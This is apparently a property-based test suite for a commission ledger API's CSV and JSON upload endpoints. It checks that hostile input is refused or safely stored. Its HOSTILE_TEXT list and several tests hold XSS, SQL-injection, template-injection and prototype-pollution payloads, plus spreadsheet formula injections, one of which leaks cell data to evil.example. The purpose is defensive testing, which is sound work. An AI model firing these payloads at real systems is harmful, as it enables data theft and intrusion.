// Hostile ledger uploads: random and adversarial CSV files through POST /api/bee/ledger/csv and
// records through POST /api/bee/ledger. Whatever arrives, the answer is 200 for a valid upload and
// a clear 4xx otherwise (never 5xx), a refused upload stores nothing, and the API stays up.
// Validity is decided here from how each cell was generated, not by asking the shared validator.
import Papa from 'papaparse';
import fc from 'fast-check';
import {
  CSV_COLUMNS,
  CSV_TITLES,
  REQUIRED_CSV_COLUMNS,
  type CsvTitle,
} from '@commissionbee/shared/csv';
import { aCsv, aLedgerRow, type RecordFields } from '../support/builders.js';
import { startSignedIn, type TestApp } from '../support/harness.js';

/** fast-check runs per property; raise HOSTILE_RUNS for a longer hunt. */
const RUNS = Number(process.env.HOSTILE_RUNS ?? 100);

/** One generated cell: what is written in the file and whether the validator must accept it. */
interface Cell {
  text: string;
  valid: boolean;
  /** Written as is, unquoted: used to break the CSV's structure on purpose. */
  raw?: boolean;
}
const ok = (text: string): Cell => ({ text, valid: true });
const bad = (text: string): Cell => ({ text, valid: false });

/** Strings that attack whoever reads them later: a browser, a spreadsheet, a template, SQL. */
export const HOSTILE_TEXT = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=1</script>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd',
  '"quoted", with, commas',
  'multi\nline\r\ncell',
  '\ttab-led',
  'Ünïcödé 🐝 名前 \u202Eevil',
  '{{constructor.constructor("return process")()}}',
  '${7*7} #{7*7} <%= 7*7 %>',
  "' OR 1=1 --; DROP TABLE ledger_records;",
  '__proto__',
  'x'.repeat(1000),
];

/** Free text as the validator sees it: trimmed, 1 to 1000 characters, no NUL. */
const textCell =
  (required: boolean) =>
  (text: string): Cell => {
    const trimmed = text.trim();
    if (trimmed === '') return { text, valid: !required };
    return { text, valid: trimmed.length <= 1000 && !trimmed.includes('\u0000') };
  };

/** Mostly valid cells, so that a fair share of generated files is valid as a whole. */
const either = (valid: fc.Arbitrary<Cell>, invalid: fc.Arbitrary<Cell>) =>
  fc.oneof({ weight: 40, arbitrary: valid }, { weight: 1, arbitrary: invalid });

const requiredText = either(
  fc.oneof(
    fc.constantFrom(...HOSTILE_TEXT).map(ok),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }).map(textCell(true)),
  ),
  fc.constantFrom('', '   ', 'x'.repeat(1001), 'nul\u0000byte').map(bad),
);
const optionalText = either(
  fc.oneof(
    fc.constantFrom(...HOSTILE_TEXT, '', '  ').map(ok),
    fc.string({ unit: 'grapheme', maxLength: 30 }).map(textCell(false)),
  ),
  fc.constantFrom('x'.repeat(1001), 'nul\u0000byte').map(bad),
);
const repEmail = either(
  fc.constantFrom('rep@example.com', ' Mixed.Case@Example.COM ', '=cmd|x@evil.example').map(ok),
  fc
    .constantFrom(
      'no-at-sign',
      '',
      '<script>x</script>',
      // One plain address only: HTML, a name or a second address could add recipients.
      '<img src=x onerror="window.__pwned=1">@x.example',
      'a@x.example, b@y.example',
      'a@b\u0000c',
      `${'x'.repeat(995)}@x.example`,
    )
    .map(bad),
);
const managerEmail = either(
  fc.constantFrom('', 'boss@example.com').map(ok),
  fc.constantFrom('not an email', '=1+1', '<b>boss</b>@example.com').map(bad),
);
const payDate = either(
  fc.constantFrom('2024-03-05', '3/5/2024', '03/05/2024', 'PENDING', ' cancelled ').map(ok),
  fc
    .constantFrom('', '2024-02-30', '13/45/2024', 'NaN', '=TODAY()', '<b>3/5/2024</b>', '1e309')
    .map(bad),
);
const amount = either(
  fc.constantFrom('100', '-0', '0', '$1,234.50', '(50.00)', '-50', '999999999999.99').map(ok),
  fc
    .constantFrom(
      '1e309',
      'NaN',
      'Infinity',
      '-Infinity',
      '1.234,50',
      '',
      '=1+1',
      '1000000000000',
      '<b>1</b>',
      '0x10',
    )
    .map(bad),
);
const breakdown = either(
  fc
    .constantFrom(
      '',
      '[]',
      JSON.stringify(['<img src=x onerror="window.__pwned=1">', 'single-line', '=HYPERLINK("x")']),
    )
    .map(ok),
  fc.constantFrom('[1,2]', 'not json', '[', '{"a":1}', JSON.stringify(['x'.repeat(1001)])).map(bad),
);

const COLUMN_CELLS: Record<string, fc.Arbitrary<Cell>> = {
  'Pay Date': payDate,
  'Rep Name': requiredText,
  'Rep Email': repEmail,
  'Item Name': requiredText,
  'Item Pay Type': requiredText,
  Amount: amount,
  'Manager Email': managerEmail,
  Breakdown: breakdown,
  'Manual Note': optionalText,
  // Unique, so every valid row is stored (the same Line ID twice in one file is a row error).
  'Line ID': fc.uuid().map(ok),
};
const REQUIRED = new Set<string>(REQUIRED_CSV_COLUMNS);
const EXTRA_COLUMN = 'Extra <script>window.__pwned=1</script>';

const aRow: fc.Arbitrary<Record<string, Cell>> = fc.record({
  ...COLUMN_CELLS,
  [EXTRA_COLUMN]: optionalText.map((c) => ok(c.text)),
});

/** A whole generated file: its columns (some dropped, shuffled, maybe an extra one) and rows. */
const aFile = fc
  .record({
    order: fc.oneof(
      {
        weight: 4,
        arbitrary: fc.shuffledSubarray([...CSV_TITLES, EXTRA_COLUMN], {
          minLength: CSV_TITLES.length,
        }),
      },
      {
        weight: 1,
        arbitrary: fc.shuffledSubarray([...CSV_TITLES, EXTRA_COLUMN], { minLength: 5 }),
      },
    ),
    rows: fc.array(aRow, { minLength: 1, maxLength: 3 }),
    unclosedQuoteAt: fc.oneof(
      { weight: 6, arbitrary: fc.constant(null) },
      { weight: 1, arbitrary: fc.nat() },
    ),
    newline: fc.constantFrom('\r\n', '\n'),
    bom: fc.boolean(),
  })
  .map(({ order, rows, unclosedQuoteAt, newline, bom }) => {
    const cells = rows.map((row) => order.map((title) => row[title]));
    if (unclosedQuoteAt !== null && cells.length > 0) {
      const row = cells[unclosedQuoteAt % cells.length];
      row[unclosedQuoteAt % row.length] = { text: '"never closed', valid: false, raw: true };
    }
    const quote = (c: Cell) =>
      c.raw || !/[",\r\n]/.test(c.text) ? c.text : `"${c.text.replaceAll('"', '""')}"`;
    const text =
      (bom ? '\uFEFF' : '') +
      [order.map((title) => quote(ok(title))), ...cells.map((row) => row.map(quote))]
        .map((line) => line.join(','))
        .join(newline) +
      newline;
    // A row whose every cell is blank is skipped by the reader, as a spreadsheet shows it.
    const dataRows = cells.filter((row) => row.some((c) => c.text.trim() !== ''));
    const headerOk = [...REQUIRED].every((title) => order.includes(title));
    const valid =
      headerOk && dataRows.length > 0 && dataRows.every((row) => row.every((c) => c.valid));
    return { text, valid, rowCount: dataRows.length };
  });

describe('hostile uploads', () => {
  let t: TestApp;
  let auth: string;

  const stored = async (): Promise<{ records: number; uploads: number; keys: number }> =>
    (
      await t.db.query(
        `SELECT (SELECT count(*)::int FROM ledger_records) AS records, (SELECT count(*)::int FROM uploads) AS uploads,
                (SELECT count(*)::int FROM rep_keys) AS keys`,
      )
    )[0];

  // Every upload adds its rows (no duplicates skipped), so a stored file is exactly its valid rows.
  const uploadCsv = (bytes: Buffer | string, fileName = 'hostile.csv') =>
    t.http
      .post('/api/bee/ledger/csv?duplicates=add&pending=add')
      .set('Authorization', auth)
      .attach('file', Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'utf8'), {
        filename: fileName,
        contentType: 'text/csv',
      });

  const uploadJson = (body: unknown) =>
    t.http
      .post('/api/bee/ledger?duplicates=add&pending=add')
      .set('Authorization', auth)
      .set('Content-Type', 'application/json')
      .send(typeof body === 'string' ? body : JSON.stringify(body));

  /** Sends an upload and checks: 200 with every row stored, or a 4xx that stored nothing. */
  async function expectStoredOrNothing(
    send: () => PromiseLike<{ status: number; body: { message?: unknown }; text: string }>,
    expected: { valid: boolean; rows: number } | null,
  ) {
    const before = await stored();
    const res = await send();
    const after = await stored();
    expect(res.status).toBeLessThan(500);
    if (res.status === 200) {
      if (expected) expect(after.records - before.records).toBe(expected.rows);
      else expect(after.records).toBeGreaterThan(before.records);
      expect(after.uploads - before.uploads).toBe(1);
    } else {
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(typeof res.body.message).toBe('string');
      expect(after).toEqual(before);
    }
    if (expected)
      expect({ status: res.status, body: res.text.slice(0, 300) }).toMatchObject({
        status: expected.valid ? 200 : 400,
      });
    return res;
  }

  beforeAll(async () => ({ t, auth } = await startSignedIn()), 120_000);
  afterAll(() => t?.close());

  afterEach(async () => {
    const health = await t.http.get('/api/health');
    expect(health.body).toMatchObject({ status: 'ok' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  describe('CSV files', () => {
    it('accepts a generated file exactly when every row is valid, and stores all of it or none', async () => {
      await fc.assert(
        fc.asyncProperty(aFile, async (file) => {
          await expectStoredOrNothing(() => uploadCsv(file.text), {
            valid: file.valid,
            rows: file.rowCount,
          });
        }),
        { numRuns: RUNS },
      );
    }, 300_000);

    it('refuses random bytes with a 4xx and stores nothing', async () => {
      await fc.assert(
        fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), async (bytes) => {
          const res = await expectStoredOrNothing(() => uploadCsv(Buffer.from(bytes)), null);
          expect(res.status).toBe(400);
        }),
        { numRuns: Math.ceil(RUNS / 2) },
      );
    }, 300_000);

    it('reads a Windows-1252 (Latin-1) file as Excel on Windows writes it', async () => {
      const csv = aCsv([
        aLedgerRow({
          rep_name: 'José Müller',
          rep_email: 'jose@example.com',
          item_name: 'Café Straße',
        }),
      ]);
      await expectStoredOrNothing(() => uploadCsv(Buffer.from(csv, 'latin1')), {
        valid: true,
        rows: 1,
      });
      const [row] = await t.db.query(
        `SELECT rep_name, item_name FROM ledger_records ORDER BY id DESC LIMIT 1`,
      );
      expect(row).toEqual({ rep_name: 'José Müller', item_name: 'Café Straße' });
    });

    it('refuses a UTF-16 file with a 4xx naming the missing headers', async () => {
      const csv = aCsv([aLedgerRow()]);
      const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv, 'utf16le')]);
      const res = await expectStoredOrNothing(() => uploadCsv(utf16), { valid: false, rows: 0 });
      expect(res.body.message).toBe('Invalid CSV Data.');
      const named = (res.body as { issues: { row: number; column: string }[] }).issues
        .filter((issue) => issue.row === 1)
        .map((issue) => issue.column)
        .sort();
      expect(named).toEqual([...REQUIRED].sort());
    });

    it('refuses a 1 MB cell and a 1 MB line without line breaks', async () => {
      const longNote = aCsv([aLedgerRow({ manual_note: 'n'.repeat(1_000_000) })]);
      const res = await expectStoredOrNothing(() => uploadCsv(longNote), { valid: false, rows: 0 });
      expect(JSON.stringify(res.body)).toContain('Manual Note is too long');
      await expectStoredOrNothing(() => uploadCsv('A'.repeat(1_000_000)), {
        valid: false,
        rows: 0,
      });
    });

    it('refuses unbalanced quotes and says which row', async () => {
      const csv = `${aCsv([aLedgerRow()])}2024-03-05,"Jane Doe,jane@example.com,Job,M1,10\r\n`;
      const res = await expectStoredOrNothing(() => uploadCsv(csv), { valid: false, rows: 0 });
      expect(JSON.stringify(res.body)).toContain('Row has a quoted value that is never closed');
    });

    it('drops a few unknown columns, refuses 100,000 columns (issue 11), and a file of only unknown ones', async () => {
      const row = aLedgerRow({ rep_email: 'wide@example.com' });
      const some = Array.from({ length: 50 }, (_, i) => `c${i}`);
      const fine = aCsv(
        [{ ...row, ...Object.fromEntries(some.map((c) => [c, 'x'])) }],
        [...CSV_TITLES, ...some],
      );
      await expectStoredOrNothing(() => uploadCsv(fine), { valid: true, rows: 1 });
      const extra = Array.from({ length: 100_000 }, (_, i) => `c${i}`);
      const wide = aCsv(
        [{ ...row, ...Object.fromEntries(extra.map((c) => [c, 'x'])) }],
        [...CSV_TITLES, ...extra],
      );
      await expectStoredOrNothing(() => uploadCsv(wide), { valid: false, rows: 0 });
      const onlyUnknown = `${extra.join(',')}\r\n${extra.map(() => '1').join(',')}\r\n`;
      await expectStoredOrNothing(() => uploadCsv(onlyUnknown), { valid: false, rows: 0 });
    }, 120_000);

    it('stores formula cells as text and neutralises them in the Master CSV download', async () => {
      const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
      const rows = [
        aLedgerRow({
          rep_name: formula,
          item_name: '+cmd|calc',
          item_pay_type: '@SUM(A1)',
          manual_note: '-1+cmd',
          rep_email: 'formula@example.com',
        }),
      ];
      await expectStoredOrNothing(() => uploadCsv(aCsv(rows)), { valid: true, rows: 1 });
      const csv = await t.http.get('/api/bee/ledger.csv').set('Authorization', auth).buffer(true);
      const parsed = Papa.parse<string[]>(csv.text, { skipEmptyLines: true }).data;
      const mine = parsed.find((cells) => cells.includes('formula@example.com'))!;
      expect(mine).toEqual(
        expect.arrayContaining([`'${formula}`, "'+cmd|calc", "'@SUM(A1)", "'-1+cmd"]),
      );
      expect(parsed.flat().filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
    });

    it('takes -0 as zero and refuses 1e309, NaN and Infinity as amounts', async () => {
      await expectStoredOrNothing(
        () => uploadCsv(aCsv([aLedgerRow({ amount: '-0', rep_email: 'zero@example.com' })])),
        {
          valid: true,
          rows: 1,
        },
      );
      const [zero] = await t.db.query(
        `SELECT amount::text AS amount FROM ledger_records WHERE rep_email = 'zero@example.com'`,
      );
      expect(zero.amount).toBe('0.00');
      for (const value of ['1e309', 'NaN', 'Infinity', '-Infinity']) {
        const res = await expectStoredOrNothing(
          () => uploadCsv(aCsv([aLedgerRow({ amount: value })])),
          { valid: false, rows: 0 },
        );
        expect(JSON.stringify(res.body)).toContain('Invalid Amount. Must be a number');
      }
    });

    it('stores HTML and script in every text field verbatim, for the screens to escape', async () => {
      const html = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>';
      const row = aLedgerRow({
        rep_name: html,
        rep_email: 'html@example.com', // emails are one plain address (no markup)
        item_name: html,
        item_pay_type: html,
        manager_email: 'boss@example.com',
        breakdown: [html, 'single-line'],
        manual_note: html,
      });
      await expectStoredOrNothing(() => uploadCsv(aCsv([row])), { valid: true, rows: 1 });
      const [storedRow] = await t.db.query(
        `SELECT rep_name, item_name, item_pay_type, manual_note, breakdown FROM ledger_records WHERE rep_email = 'html@example.com'`,
      );
      expect(storedRow).toEqual({
        rep_name: html,
        item_name: html,
        item_pay_type: html,
        manual_note: html,
        breakdown: [html, 'single-line'],
      });
    });

    it('refuses empty files, a header alone, NUL bytes, a wrong field name and two files', async () => {
      await expectStoredOrNothing(() => uploadCsv(''), { valid: false, rows: 0 });
      await expectStoredOrNothing(() => uploadCsv(`${CSV_TITLES.join(',')}\r\n`), {
        valid: false,
        rows: 0,
      });
      await expectStoredOrNothing(
        () => uploadCsv(aCsv([aLedgerRow({ rep_name: 'nul\u0000name' })])),
        { valid: false, rows: 0 },
      );
      const csv = Buffer.from(aCsv([aLedgerRow()]));
      await expectStoredOrNothing(
        () =>
          t.http
            .post('/api/bee/ledger/csv')
            .set('Authorization', auth)
            .attach('upload', csv, 'x.csv'),
        null,
      );
      await expectStoredOrNothing(
        () =>
          t.http
            .post('/api/bee/ledger/csv')
            .set('Authorization', auth)
            .attach('file', csv, 'a.csv')
            .attach('file', csv, 'b.csv'),
        null,
      );
    });

    it('takes the file and ignores prototype-polluting multipart field names', async () => {
      const csv = Buffer.from(aCsv([aLedgerRow()]));
      const res = await t.http
        .post('/api/bee/ledger/csv')
        .set('Authorization', auth)
        .field('__proto__[polluted]', 'yes')
        .field('constructor[prototype][polluted]', 'yes')
        .attach('file', csv, 'x.csv');
      expect(res.status).toBe(200);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('answers 413 for a file over 40 MB and stores nothing', async () => {
      const before = await stored();
      const res = await uploadCsv(Buffer.alloc(41 * 1024 * 1024, 'a'));
      expect(res.status).toBe(413);
      expect(res.body.message).toBe('The upload is too large (the limit is 40 MB).');
      expect(await stored()).toEqual(before);
    }, 120_000);
  });

  describe('JSON records', () => {
    const aRecord = fc.record(COLUMN_CELLS).map((cells) => {
      const record = Object.fromEntries(
        Object.entries(cells).map(([title, c]) => [CSV_COLUMNS[title as CsvTitle], c.text]),
      );
      return { record, valid: Object.values(cells).every((c) => c.valid) };
    });

    it('accepts generated records exactly when every one is valid, all or nothing', async () => {
      await fc.assert(
        fc.asyncProperty(fc.array(aRecord, { maxLength: 3 }), async (records) => {
          const valid = records.length > 0 && records.every((r) => r.valid);
          await expectStoredOrNothing(() => uploadJson({ data: records.map((r) => r.record) }), {
            valid,
            rows: records.length,
          });
        }),
        { numRuns: RUNS },
      );
    }, 300_000);

    /** Any JSON value, with the keys that attack object merging. */
    const anyJson = fc.letrec((tie) => ({
      value: fc.oneof(
        { depthSize: 'small' },
        fc.string(),
        fc.double(),
        fc.integer(),
        fc.boolean(),
        fc.constant(null),
        fc.constantFrom(...HOSTILE_TEXT),
        fc.array(tie('value'), { maxLength: 3 }),
        fc.dictionary(
          fc.constantFrom('__proto__', 'constructor', 'prototype', 'amount', 'rep_email', 'x'),
          tie('value'),
          {
            maxKeys: 3,
          },
        ),
      ),
    })).value;

    it('never answers 5xx to records of any shape, and stores them only when it answers 200', async () => {
      const aHostileRecord = fc.record(
        {
          pay_date: anyJson,
          rep_name: anyJson,
          rep_email: anyJson,
          item_name: anyJson,
          item_pay_type: anyJson,
          amount: fc.oneof(anyJson, fc.constantFrom(-0, 1e308, 5e-324, Number.MAX_SAFE_INTEGER)),
          breakdown: anyJson,
          company_id: fc.integer(),
        },
        { requiredKeys: [] },
      );
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(fc.array(aHostileRecord, { maxLength: 4 }), anyJson),
          async (data) => {
            await expectStoredOrNothing(() => uploadJson(JSON.stringify({ data })), null);
          },
        ),
        { numRuns: RUNS },
      );
    }, 300_000);

    it('refuses amounts written as 1e309, NaN and Infinity in the JSON text, and takes -0 as zero', async () => {
      const row = (amountText: string) =>
        `{"data":[${JSON.stringify(aLedgerRow({ rep_email: 'raw@example.com' })).replace(/"amount":[^,]+/, `"amount":${amountText}`)}]}`;
      for (const text of ['1e309', '-1e309', '"NaN"', '"Infinity"']) {
        await expectStoredOrNothing(() => uploadJson(row(text)), { valid: false, rows: 0 });
      }
      for (const text of ['NaN', 'Infinity', '-Infinity']) {
        // Not JSON at all: the body parser refuses it.
        await expectStoredOrNothing(() => uploadJson(row(text)), { valid: false, rows: 0 });
      }
      await expectStoredOrNothing(() => uploadJson(row('-0')), { valid: true, rows: 1 });
    });

    it('keeps records in the caller’s company whatever company_id, upload_id or id they carry', async () => {
      const record: RecordFields = {
        ...aLedgerRow({ rep_email: 'tenant@example.com' }),
        company_id: 1,
        upload_id: 1,
        id: 1,
      };
      await expectStoredOrNothing(() => uploadJson({ data: [record], company_id: 1 }), {
        valid: true,
        rows: 1,
      });
      const rows = await t.db.query(
        `SELECT company_id FROM ledger_records WHERE rep_email = 'tenant@example.com'`,
      );
      expect(rows).toEqual([{ company_id: 10 }]);
    });
  });
});
